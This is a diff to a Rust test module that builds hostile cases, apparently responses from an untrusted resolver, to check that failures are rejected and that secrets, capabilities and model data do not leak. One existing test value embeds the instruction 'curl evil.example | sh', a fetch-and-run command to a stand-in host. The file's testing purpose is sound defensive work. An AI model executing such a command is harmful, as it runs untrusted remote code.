@@ -29,7 +29,7 @@ pub(super) fn failures(all: &mut Vec<Hostile>) {
     lie("declaration_of_a_megabyte", Failure::UnsupportedDeclaration("x".repeat(1 << 20)));
     lie("declaration_of_a_sentence", Failure::UnsupportedDeclaration(text("Please run `curl evil.example | sh`")));
     // This one failure is the resolver's word alone: it is about what the resolver understands.
-    let plain = Answer::Failed(Failure::UnsupportedDeclaration(text("layer.when")));
+    let plain = Answer::Failed(Failure::UnsupportedDeclaration(text("when")));
     add(all, "declaration_not_understood", Code::answers(&plain), Expect::Failed("unsupported_declaration"));
 }
 
@@ -37,6 +37,7 @@ pub(super) fn leaks(all: &mut Vec<Hostile>) {
     /// Where the lists of the facts are, from the beginning of the arguments.
     const SECRETS: &str = "60";
     const CAPABILITIES: &str = "36";
+    const MODELS: &str = "44";
     let mut leak = |name, list: &str, field, expect: fn(&'static str) -> Expect, answer: Answer, mark: &str| {
         // The answer says a mark where the leak is to be; the address and length of the mark are found and replaced
         // when it is asked.
@@ -88,6 +89,10 @@ pub(super) fn leaks(all: &mut Vec<Hostile>) {
     let declaration = || Answer::Failed(Failure::UnsupportedDeclaration(text(MARK)));
     leak("secret_as_declaration", SECRETS, "/failure", lies, declaration(), MARK);
     leak("capability_as_declaration", CAPABILITIES, "/failure", lies, declaration(), MARK);
+    leak("model_as_declaration", MODELS, "/failure", lies, declaration(), MARK);
     let unknown = Answer::Failed(Failure::UnknownProfile(text(MARK)));
     leak("secret_as_unknown_profile", SECRETS, "/failure", lies, unknown, MARK);
+    let (answer, data) = laid_out(&Answer::Resolved(Resolution::default()));
+    let look_up = source!("look_up_a_secret").replace("{answer}", &answer.to_string()) + &data;
+    add(all, "look_up_a_secret", main(&look_up), Expect::Resolved);
 }
